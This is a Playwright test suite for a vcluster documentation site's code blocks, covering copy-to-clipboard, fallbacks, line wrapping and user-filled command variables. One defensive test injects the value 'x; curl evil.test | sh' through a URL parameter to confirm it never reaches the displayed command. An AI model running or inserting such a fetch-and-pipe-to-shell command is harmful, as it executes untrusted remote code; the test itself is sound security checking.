import type { Locator, Page } from '@playwright/test';
import { holdClock, settled } from './support/calm.ts';
import { content } from './support/shell.ts';
import { at } from './support/target.ts';
import { expect, test, visit, visitCalmly } from './support/test.ts';

/** Commands with variables, in tabs, followed by blocks without variables. */
const BASICS = '/docs/vcluster/deploy/control-plane/container/basics';
const SLEEP = '/docs/vcluster/manage/sleep-wakeup';

const CREATE = 'vcluster create orchard --namespace team-orchard --values vcluster.yaml --connect=false';

const block = (page: Page, text: string | RegExp): Locator =>
  content(page).getByRole('figure').filter({ hasText: text }).first();
const copy = (figure: Locator): Locator => figure.getByRole('button', { name: 'Copy code' });
const status = (page: Page): Locator => page.locator('[data-announcer]');

/** What the page wrote to the clipboard through the clipboard interface. */
async function spyOnClipboard(page: Page, outcome: 'works' | 'is denied' | 'is missing'): Promise<void> {
  await page.addInitScript((how) => {
    const written: string[] = [];
    Object.assign(window, { written });
    const writeText = async (text: string) => {
      if (how === 'is denied') throw new DOMException('Write permission denied.', 'NotAllowedError');
      written.push(text);
    };
    Object.defineProperty(navigator, 'clipboard', {
      value: how === 'is missing' ? undefined : { writeText },
    });
  }, outcome);
}

const written = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { written: string[] }).written);

/** What the fallback copied: the browser's own copy event. */
async function spyOnSelection(page: Page, works: boolean): Promise<void> {
  await page.addInitScript((isAllowed) => {
    const selected: string[] = [];
    Object.assign(window, { selected });
    document.execCommand = (command: string) => {
      const area = document.activeElement;
      if (command === 'copy' && area instanceof HTMLTextAreaElement)
        selected.push(area.value.slice(area.selectionStart, area.selectionEnd));
      return isAllowed;
    };
  }, works);
}

const selected = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { selected: string[] }).selected);

test.describe('copying a code block', () => {
  test('uses the browser’s clipboard interface', async ({ page }) => {
    await spyOnClipboard(page, 'works');
    await visit(page, SLEEP);
    const figure = block(page, 'vcluster connect orchard');
    await figure.hover();
    await copy(figure).click();
    await expect.poll(() => written(page)).toEqual(['vcluster connect orchard --namespace team-orchard']);
  });

  test('shows a check on success, and reverts after 2 seconds', async ({ page }) => {
    await spyOnClipboard(page, 'works');
    await visitCalmly(page, SLEEP);
    await holdClock(page);
    const figure = block(page, 'vcluster connect orchard');
    await copy(figure).click();
    await expect(copy(figure)).toHaveAttribute('data-state', 'copied');
    await page.clock.runFor(1999);
    await expect(status(page)).toHaveText('Copied');
    await expect(copy(figure)).toHaveAttribute('data-state', 'copied');
    await page.clock.runFor(1);
    await expect(copy(figure)).not.toHaveAttribute('data-state');
  });

  test('a second press starts the two seconds again', async ({ page }) => {
    await spyOnClipboard(page, 'works');
    await visitCalmly(page, SLEEP);
    await holdClock(page);
    const button = copy(block(page, 'vcluster connect orchard'));
    await button.click();
    await expect(button).toHaveAttribute('data-state', 'copied');
    const press = await button.getAttribute('data-press');
    await page.clock.runFor(1300);
    await button.click();
    await expect(button).not.toHaveAttribute('data-press', press ?? '');
    await page.clock.runFor(1999);
    await expect(button).toHaveAttribute('data-state', 'copied');
    await page.clock.runFor(1);
    await expect(button).not.toHaveAttribute('data-state');
  });

  for (const outcome of ['is denied', 'is missing'] as const) {
    test(`falls back to a selection where the interface ${outcome}, and keeps the focus`, async ({
      page,
    }) => {
      await spyOnClipboard(page, outcome);
      await spyOnSelection(page, true);
      await visit(page, SLEEP);
      const button = copy(block(page, 'vcluster connect orchard'));
      await button.focus();
      await page.keyboard.press('Enter');
      await expect(button).toHaveAttribute('data-state', 'copied');
      expect(await selected(page)).toEqual(['vcluster connect orchard --namespace team-orchard']);
      await expect(button).toBeFocused();
      await expect(page.locator('textarea')).toHaveCount(0);
    });

    test(`shows a red cross where the interface ${outcome} and the selection fails too`, async ({ page }) => {
      await spyOnClipboard(page, outcome);
      await spyOnSelection(page, false);
      await visit(page, SLEEP);
      const button = copy(block(page, 'vcluster connect orchard'));
      await button.click();
      await expect(button).toHaveAttribute('data-state', 'failed');
      const [red, rest] = await button.evaluate((element) => {
        const before = getComputedStyle(element).color;
        const probe = Object.assign(document.createElement('i'), { style: 'color: var(--color-danger)' });
        element.append(probe);
        const danger = getComputedStyle(probe).color;
        probe.remove();
        return [danger, before];
      });
      expect(rest).toBe(red);
      await expect(status(page)).toHaveText(/^Copying failed/);
      await expect(button).not.toHaveAttribute('data-state');
    });
  }

  test('works on a page without HTTPS, where browsers have no clipboard interface', async ({
    page,
    baseURL,
  }) => {
    const port = new URL(baseURL ?? '').port;
    test.skip(port === '', 'The host under test has no port of its own.');
    await page.route('http://insecure.test/**', async (route) => {
      const path = new URL(route.request().url());
      const response = await route.fetch({ url: `${baseURL}${path.pathname}${path.search}` });
      await route.fulfill({ response });
    });
    await page.goto(`http://insecure.test${at(SLEEP)}`);
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => window.isSecureContext)).toBe(false);
    const copied = page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const tell = () => {
            const area = document.activeElement;
            const isArea = area instanceof HTMLTextAreaElement;
            resolve(isArea ? area.value.slice(area.selectionStart, area.selectionEnd) : '');
          };
          document.addEventListener('copy', tell, { once: true });
        }),
    );
    const button = copy(block(page, 'vcluster connect orchard'));
    await button.click();
    await expect(button).toHaveAttribute('data-state', 'copied');
    expect(await copied).toBe('vcluster connect orchard --namespace team-orchard');
  });

  test('copies a session’s commands without prompts and output', async ({ page }) => {
    await spyOnClipboard(page, 'works');
    await visit(page, SLEEP);
    const figure = content(page).locator('figure[data-code=bash]').last();
    await figure.locator('code').evaluate((code) => {
      code.textContent =
        '$ vcluster list\nNAME     STATUS\norchard  Running\n$ vcluster connect \\\n    orchard';
    });
    await copy(figure).click();
    await expect.poll(() => written(page)).toEqual(['vcluster list\nvcluster connect \\\n    orchard']);
  });

  test('works on pages that were reached without loading a document', async ({ page }) => {
    await spyOnClipboard(page, 'works');
    await visit(page, SLEEP);
    await page.getByRole('link', { name: /^Next/ }).click();
    await expect(page).not.toHaveURL(at(SLEEP));
    const button = content(page).getByRole('button', { name: 'Copy code' }).first();
    await button.click();
    await expect(button).toHaveAttribute('data-state', 'copied');
    expect(await written(page)).toHaveLength(1);
  });
});

test.describe('the button that wraps lines', () => {
  /** Whether part of the block's lines is out of view. */
  const isCut = (figure: Locator): Promise<boolean> =>
    figure.locator('pre').evaluate((pre) => pre.scrollWidth > pre.clientWidth);

  test('wraps them, and unwraps them when it is pressed again', async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await visit(page, SLEEP);
    const figure = block(page, 'vcluster connect orchard');
    const button = figure.getByRole('button', { name: 'Wrap lines' });
    const height = async () => (await figure.locator('pre').boundingBox())?.height ?? 0;
    const flat = await height();
    expect(await isCut(figure)).toBe(true);
    await expect(button).toHaveAttribute('aria-pressed', 'false');
    await figure.hover();
    await button.click();
    await expect(button).toHaveAttribute('aria-pressed', 'true');
    expect(await isCut(figure)).toBe(false);
    expect(await height()).toBeGreaterThan(flat);
    await button.click();
    await expect(button).toHaveAttribute('aria-pressed', 'false');
    expect(await isCut(figure)).toBe(true);
    expect(await height()).toBe(flat);
  });

  test('is there only where a line is too long for the view', async ({ page }) => {
    await page.setViewportSize({ width: 1440, height: 900 });
    await visitCalmly(page, SLEEP);
    const wrap = (text: string) => block(page, text).getByRole('button', { name: 'Wrap lines' });
    await expect(wrap('vcluster connect orchard')).toBeHidden();
    await page.setViewportSize({ width: 390, height: 844 });
    await expect(wrap('vcluster connect orchard')).toBeVisible();
    await page.setViewportSize({ width: 820, height: 1180 });
    await expect(wrap('vcluster connect orchard')).toBeHidden();
    await expect(wrap('vcluster list')).toHaveCount(0);
  });

  test('is remembered, for all blocks and on other pages, before they are rendered', async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await visit(page, SLEEP);
    await block(page, 'vcluster connect orchard').getByRole('button', { name: 'Wrap lines' }).click();
    await page.goto(at('/docs/vcluster/cli/vcluster_create'), { waitUntil: 'commit' });
    const figure = block(page, 'vcluster create orchard --namespace');
    expect(await isCut(figure)).toBe(false);
    const button = figure.getByRole('button', { name: 'Wrap lines' });
    await expect(button).toHaveAttribute('aria-pressed', 'true');
    await button.click();
    expect(await isCut(figure)).toBe(true);
  });
});

test.describe('a code block', () => {
  test('says what it is: a file, or its language', async ({ page }) => {
    await visit(page, SLEEP);
    const captions = await content(page).locator('figure[data-code] > figcaption').allTextContents();
    const blocks = await content(page).locator('figure[data-code]').count();
    expect(captions).toHaveLength(blocks);
    expect(captions).toContain('Shell');
    expect(captions.filter((caption) => caption.trim() === '')).toEqual([]);
  });

  test('of what a command prints is told apart, and offers nothing to paste', async ({ page }) => {
    await visit(page, SLEEP);
    const output = content(page).locator('figure[data-code=output]').first();
    await expect(output.locator('figcaption')).toHaveText('Output');
    await expect(output.getByRole('button', { name: 'Copy code' })).toHaveCount(0);
    await expect(output).toHaveCSS('border-style', 'dashed');
    await expect(block(page, 'vcluster connect orchard')).toHaveCSS('border-style', 'solid');
  });

  test('offers its copy button to mouse, keyboard, and finger alike, beside no line of code', async ({
    page,
  }) => {
    for (const width of [1440, 390]) {
      await page.setViewportSize({ width, height: 900 });
      await visit(page, SLEEP);
      const figure = block(page, 'vcluster connect orchard');
      await expect(copy(figure)).toBeVisible();
      await expect(copy(figure)).toHaveCSS('opacity', '1');
      const button = await copy(figure).boundingBox();
      const pre = await figure.locator('pre').boundingBox();
      expect((button?.y ?? 0) + (button?.height ?? 0)).toBeLessThanOrEqual((pre?.y ?? 0) + 1);
    }
  });
});

test.describe('code with variables', () => {
  const input = (page: Page, name: string): Locator =>
    content(page).getByRole('textbox', { name, exact: true }).first();

  /** The page's one bar with inputs is closed at first. */
  const openValues = (page: Page): Promise<void> =>
    content(page).getByText('Your values', { exact: true }).click();

  async function visitValues(page: Page, path = BASICS): Promise<void> {
    await visit(page, path);
    await openValues(page);
  }

  test('shows the defaults, and inputs above the block', async ({ page }) => {
    await visitValues(page);
    await expect(block(page, /vcluster create/).locator('code')).toHaveText(CREATE);
    const field = await input(page, 'NAMESPACE').boundingBox();
    const code = await block(page, /vcluster create/)
      .locator('code')
      .boundingBox();
    expect((field?.y ?? 0) + (field?.height ?? 0)).toBeLessThan(code?.y ?? 0);
  });

  test('what is typed fills the shown and the copied code, in all blocks with the same name', async ({
    page,
  }) => {
    await spyOnClipboard(page, 'works');
    await visitValues(page);
    await input(page, 'NAMESPACE').fill('team-blue');
    const filled = CREATE.replace('team-orchard', 'team-blue');
    await expect(block(page, /vcluster create/).locator('code')).toHaveText(filled);
    await copy(block(page, /vcluster create/)).click();
    await expect.poll(() => written(page)).toEqual([filled]);
    await content(page).getByRole('tab', { name: 'Helm', exact: true }).click();
    await expect(block(page, 'helm upgrade').locator('code')).toContainText('--namespace team-blue');
  });

  test('clearing an input restores the default', async ({ page }) => {
    await visitValues(page);
    await input(page, 'NAME').fill('mine');
    await expect(block(page, /vcluster create/).locator('code')).toContainText('create mine');
    await input(page, 'NAME').fill('');
    await expect(block(page, /vcluster create/).locator('code')).toHaveText(CREATE);
  });

  test('what is typed before the code is loaded is kept, not what was typed earlier', async ({ page }) => {
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.addInitScript(() => localStorage.setItem('docs.variables', '{"NAME":"earlier"}'));
    await page.route('**/_next/static/chunks/*.js', async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(at(BASICS), { waitUntil: 'commit' });
    await openValues(page);
    await input(page, 'NAME').fill('mine');
    release();
    await expect(block(page, /vcluster create/).locator('code')).toContainText('create mine');
    await expect(input(page, 'NAME')).toHaveValue('mine');
  });

  test('never reaches the address unless it is shared', async ({ page }) => {
    await spyOnClipboard(page, 'works');
    await visitValues(page);
    await input(page, 'NAME').fill('mine');
    await expect(block(page, /vcluster create/).locator('code')).toContainText('create mine');
    expect(page.url()).not.toContain('mine');
    await content(page).getByRole('button', { name: 'Share' }).first().click();
    await expect(page).toHaveURL(/\?v\.NAME=mine$/);
    await expect(status(page)).toHaveText('Link copied');
    expect(await written(page)).toEqual([page.url()]);
  });

  test('sharing lists the values that a link cannot carry', async ({ page }) => {
    await spyOnClipboard(page, 'works');
    await visitValues(page);
    await input(page, 'NAME').fill('two words');
    await content(page).getByRole('button', { name: 'Share' }).first().click();
    const note = content(page).getByText('The link leaves out NAME.').first();
    await expect(note).toBeVisible();
    await expect(status(page)).toContainText('Link copied. The link leaves out NAME.');
    expect(await written(page)).toEqual([page.url()]);
    expect(page.url()).not.toContain('v.NAME');
    await input(page, 'NAME').fill('mine');
    await expect(note).toHaveCount(0);
  });

  test('a shared address fills the code until something is typed', async ({ page }) => {
    await visitValues(page, `${BASICS}?v.NAME=shared`);
    await expect(block(page, /vcluster create/).locator('code')).toContainText('create shared');
    await input(page, 'NAME').fill('mine');
    await expect(page).toHaveURL(at(BASICS));
  });

  test('an address cannot slip a command into the code', async ({ page }) => {
    await visit(page, `${BASICS}?v.NAME=${encodeURIComponent('x; curl evil.test | sh')}`);
    await settled(page);
    await expect(block(page, /vcluster create/).locator('code')).toHaveText(CREATE);
  });

  test('keeps its colors', async ({ page }) => {
    await visitValues(page);
    await input(page, 'NAME').fill('mine');
    const code = block(page, /vcluster create mine/).locator('code');
    await expect.poll(() => code.locator('span').count()).toBeGreaterThan(2);
  });

  test('fills version variables at build', async ({ request }) => {
    const html = await (await request.get(at(BASICS))).text();
    expect(html).not.toContain('[[VERSION:');
    expect(html).not.toContain('[[VAR:');
  });

  test('works where storage is forbidden', async ({ page }) => {
    await page.addInitScript(() =>
      Object.defineProperty(window, 'localStorage', {
        get() {
          throw new DOMException('denied', 'SecurityError');
        },
      }),
    );
    await visitValues(page);
    await input(page, 'NAME').fill('mine');
    await expect(block(page, /vcluster create/).locator('code')).toContainText('create mine');
  });
});

test.describe('code with variables, without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('shows the defaults and no inputs', async ({ page }) => {
    await page.goto(at(BASICS));
    await expect(content(page).getByText(CREATE)).toBeVisible();
    await expect(content(page).getByRole('textbox')).toHaveCount(0);
  });
});
